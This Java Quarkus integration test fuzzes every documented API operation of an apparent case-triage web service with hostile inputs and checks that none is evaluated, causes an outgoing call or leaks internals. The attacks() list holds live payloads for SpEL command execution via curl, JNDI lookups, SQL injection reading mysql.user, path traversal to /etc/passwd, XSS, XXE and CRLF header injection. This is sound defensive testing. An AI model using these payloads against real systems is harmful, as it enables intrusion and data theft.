package org.teestriage.web.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import jakarta.inject.Inject;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.teestriage.platform.persistence.Json;
import org.teestriage.testing.LogCapture;
import org.teestriage.testing.MovableTime;
import org.teestriage.testing.client.Api;
import org.teestriage.testing.client.Bodies;
import org.teestriage.testing.server.HttpStub;
import org.teestriage.testing.server.MySqlResource;
import org.teestriage.testing.server.TestDatabase;

/**
 * Sends a fixed list of attacks to every parameter, header and field of every documented operation, as every kind of
 * user. No request fails with 5xx, is evaluated, causes an outgoing connection, takes too long or reveals internals.
 */
@QuarkusTest
@QuarkusTestResource(MySqlResource.class)
class HostileRunTest {

    /** Fixes the choice of attacks; another seed makes another run. */
    private static final long SEED = 20_260_922;

    private static final int PER_PARAMETER = 6;
    private static final int PER_FIELD = 2;
    private static final Duration MAX_DURATION = Duration.ofMillis(4_900);
    private static final HttpClient CLIENT =
            HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

    private static final List<String> USERS =
            List.of("referrer", "officer.hartlepool", "manager.hartlepool", "auditor", "operator", "");

    /** Texts that a refusal must not contain, because they reveal internals. */
    private static final Pattern INTERNALS =
            Pattern.compile("Exception|org\\.teestriage|java\\.|jakarta\\.|\\tat |hibernate"
                    + "|camunda|vert\\.x|(?i)mysql|sql syntax|ACT_RU|root:x:");

    @Inject
    MovableTime time;

    private final Random random = new Random(SEED);
    private final Map<Integer, Integer> statuses = new TreeMap<>();
    private final List<String> faults = new ArrayList<>();

    /** If evaluated, an attack yields 62615533, waits five seconds, or connects to this port. */
    private static List<String> attacks(int port) {
        String here = "127.0.0.1:" + port;
        return List.of(
                "${7919*7907}",
                "#{7919*7907}",
                "{7919*7907}",
                "{{7919*7907}}",
                "${{7919*7907}}",
                "<%= 7919*7907 %>",
                "@{7919*7907}",
                "*{7919*7907}",
                "T(java.lang.Runtime).getRuntime().exec('curl http://%s/el')".formatted(here),
                "%{(#a=@java.lang.Math@abs(7919*7907))}",
                "{str:eval('7919*7907')}",
                "{inject:vertx}{cdi:entities}",
                "${jndi:ldap://%s/a}".formatted(here),
                "${${lower:j}ndi:dns://%s/a}".formatted(here),
                "${env:PATH}${sys:user.dir}",
                "http://%s/fetched".formatted(here),
                "file:///etc/passwd",
                "' or sleep(5)-- ",
                "1' and (select 1 from (select sleep(5)) x)-- ",
                "\" or \"\"=\"",
                "'; insert into turned_away values (424242,0,'x',0,'x',1);-- ",
                "') union select user,authentication_string from mysql.user-- ",
                "\\",
                "%00",
                "\u0000",
                "\ud800",
                "../../../../etc/passwd",
                "..%2f..%2fetc%2fpasswd",
                "<script>alert(7919*7907)</script>",
                "\"><svg/onload=alert(1)>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://%s/xxe\">]><x>&e;</x>".formatted(here),
                "[\"java.util.HashMap\",{}]",
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
                "x\r\nSet-Cookie: planted=1\r\nX-Planted: 1",
                "%0d%0aX-Planted:%201",
                "(a+)+$" + "a".repeat(3_000) + "!",
                "9".repeat(400),
                "-1",
                "1e309",
                "NaN",
                "null",
                "true",
                "2026-02-30T25:61:61Z",
                "K7Q2-9FXM-F",
                "\u202egnp.exe",
                "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67".repeat(60),
                "a".repeat(9_000));
    }

    private record Trial(String method, String address, String user, String header, String body) {}

    @Test
    void attacksCauseNoErrorsAreNotEvaluatedAndRevealNoInternals() throws IOException, InterruptedException {
        time.set(MovableTime.A_TUESDAY_MORNING);
        OpenApiDocument document = OpenApiDocument.fetched();
        Api.ConcernClient concern = Api.as("referrer").raise(Bodies.GROOMING);
        long switches = Long.parseLong(TestDatabase.rows("select coalesce(max(id), 0) from channel_switch")
                .get(0)
                .get(0));
        try (HttpStub outside = new HttpStub(0);
                LogCapture log = new LogCapture()) {
            List<String> attacks = attacks(outside.port());
            List<Trial> trials = document.operations().stream()
                    .flatMap(operation -> trials(operation, concern.reference(), attacks))
                    .toList();
            for (Trial trial : trials) {
                send(trial);
            }
            // Stored attacks are returned as text and not evaluated.
            for (String below : List.of("", "/timeline", "/path")) {
                String read = Api.as("officer.hartlepool")
                        .get(concern.address() + below)
                        .asString();
                judge("read back " + below, read, false);
            }
            long operations = trials.stream()
                    .map(trial -> trial.method() + trial.address().replaceAll("\\?.*", ""))
                    .distinct()
                    .count();
            System.out.printf(
                    "HOSTILE RUN %d operations, %d requests to %d addresses, seed %d: %s; 5xx %d, evaluated or told %d, called out %d%n",
                    document.operations().size(),
                    trials.size(),
                    operations,
                    SEED,
                    statuses,
                    statuses.entrySet().stream()
                            .filter(each -> each.getKey() >= 500)
                            .mapToInt(Map.Entry::getValue)
                            .sum(),
                    faults.size(),
                    outside.connections());

            assertThat(faults).isEmpty();
            assertThat(statuses.keySet()).allMatch(status -> status < 500);
            assertThat(outside.connections()).as("outgoing connections").isZero();
            assertThat(log.lines())
                    .noneMatch(line -> line.contains("62615533")
                            || line.contains("7919*7907")
                            || line.contains("Exception")
                            || line.contains("planted"));
        }
        // An attack may have switched a channel as operator; restore the channels for later tests.
        TestDatabase.change("delete from channel_switch where id > ?", switches);
        assertThat(TestDatabase.rows("select id from turned_away where id = 424242 and place = 'x'"))
                .isEmpty();
    }

    private Stream<Trial> trials(OpenApiDocument.Operation operation, String reference, List<String> attacks) {
        String whole = operation.address(reference);
        String plain = operation.takesABody() ? example(operation) : "";
        Stream<Trial> parameters = operation.parameters().stream().flatMap(parameter -> sample(attacks, PER_PARAMETER)
                .map(attack -> attacked(operation, reference, parameter, attack, plain)));
        Stream<Trial> path = operation.path().contains("{reference}")
                ? sample(attacks, PER_PARAMETER)
                        .map(attack -> new Trial(
                                operation.method(), operation.address(encoded(attack)), randomUser(), "", plain))
                : Stream.empty();
        Stream<Trial> headers =
                sample(attacks, 2).map(attack -> new Trial(operation.method(), whole, randomUser(), attack, plain));
        Stream<Trial> fields = plain.isEmpty()
                ? Stream.empty()
                : leaves(Json.read(plain, JsonNode.class), "").flatMap(pointer -> sample(attacks, PER_FIELD)
                        .map(attack ->
                                new Trial(operation.method(), whole, randomUser(), "", with(plain, pointer, attack))));
        return Stream.of(parameters, path, headers, fields).flatMap(each -> each);
    }

    private static String example(OpenApiDocument.Operation operation) {
        return OpenApiDocument.fields(operation.requests())
                .map(each -> each.getValue().path("value").toString())
                .findFirst()
                .orElse("{}");
    }

    private Trial attacked(
            OpenApiDocument.Operation operation, String reference, JsonNode parameter, String attack, String body) {
        String name = parameter.get("name").asText();
        String where = parameter.get("in").asText();
        String address = operation.address(reference);
        if (where.equals("header")) {
            return new Trial(operation.method(), address, randomUser(), attack, body);
        }
        String example = parameter.path("example").asText();
        String changed = where.equals("query")
                ? address.replaceAll("([?&])" + Pattern.quote(name) + "=[^&]*", "$1_=_")
                        + (address.contains("?") ? "&" : "?") + name + "=" + encoded(attack)
                : operation
                        .path()
                        .replace("{reference}", reference)
                        .replace("{" + name + "}", encoded(attack))
                        .replaceAll(
                                "\\{[^}]*}",
                                example.isEmpty() ? "1" : Pattern.quote(example).replaceAll("\\\\[QE]", ""));
        return new Trial(operation.method(), changed, randomUser(), "", body);
    }

    private Stream<String> sample(List<String> attacks, int number) {
        return IntStream.range(0, number).mapToObj(each -> attacks.get(random.nextInt(attacks.size())));
    }

    private String randomUser() {
        return USERS.get(random.nextInt(USERS.size()));
    }

    private static String encoded(String attack) {
        return URLEncoder.encode(attack, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static Stream<String> leaves(JsonNode node, String pointer) {
        if (node instanceof ObjectNode object) {
            return object.properties().stream().flatMap(each -> leaves(each.getValue(), pointer + "/" + each.getKey()));
        }
        if (node instanceof ArrayNode array) {
            return IntStream.range(0, array.size()).boxed().flatMap(at -> leaves(array.get(at), pointer + "/" + at));
        }
        return Stream.of(pointer);
    }

    private static String with(String body, String pointer, String attack) {
        return Api.with(body, pointer, attack).toString();
    }

    private void send(Trial trial) throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(
                        URI.create("http://localhost:" + RestAssured.port + trial.address()))
                .timeout(Duration.ofSeconds(30))
                .header("Content-Type", "application/json")
                .method(
                        trial.method(),
                        trial.body().isEmpty()
                                ? HttpRequest.BodyPublishers.noBody()
                                : HttpRequest.BodyPublishers.ofString(trial.body()));
        if (!trial.user().isEmpty()) {
            request.header(
                    "Authorization",
                    "Basic "
                            + Base64.getEncoder()
                                    .encodeToString((trial.user() + ":demo").getBytes(StandardCharsets.UTF_8)));
        }
        String header = trial.header().replaceAll("[^\\x20-\\x7e]", "?");
        if (!header.isBlank()) {
            request.header("Idempotency-Key", header)
                    .header("X-Request-Id", header)
                    .header("X-Forwarded-For", header)
                    .header("Accept-Language", header);
        }
        long began = System.nanoTime();
        HttpResponse<String> answer = answer(request.build());
        Duration took = Duration.ofNanos(System.nanoTime() - began);
        statuses.merge(answer.statusCode(), 1, Integer::sum);
        String what = "%s %s by %s: %d".formatted(trial.method(), trial.address(), trial.user(), answer.statusCode());
        if (answer.statusCode() >= 500) {
            faults.add(what + " fails");
        }
        if (took.compareTo(MAX_DURATION) > 0) {
            faults.add(what + " took " + took);
        }
        if (answer.headers().map().keySet().stream().anyMatch(name -> name.equalsIgnoreCase("X-Planted"))
                || answer.headers().allValues("Set-Cookie").toString().contains("planted")) {
            faults.add(what + " planted a header");
        }
        judge(what, answer.body(), answer.statusCode() >= 400);
    }

    /** Retries once: overlong headers close the connection, which the client may still reuse. */
    private static HttpResponse<String> answer(HttpRequest request) throws IOException, InterruptedException {
        try {
            return CLIENT.send(request, HttpResponse.BodyHandlers.ofString());
        } catch (IOException closed) {
            return CLIENT.send(request, HttpResponse.BodyHandlers.ofString());
        }
    }

    private void judge(String what, String body, boolean refusal) {
        if (body.contains("62615533")) {
            faults.add(what + " evaluated: " + body);
        }
        if (refusal && INTERNALS.matcher(body).find()) {
            faults.add(what + " reveals internals: " + body);
        }
    }
}
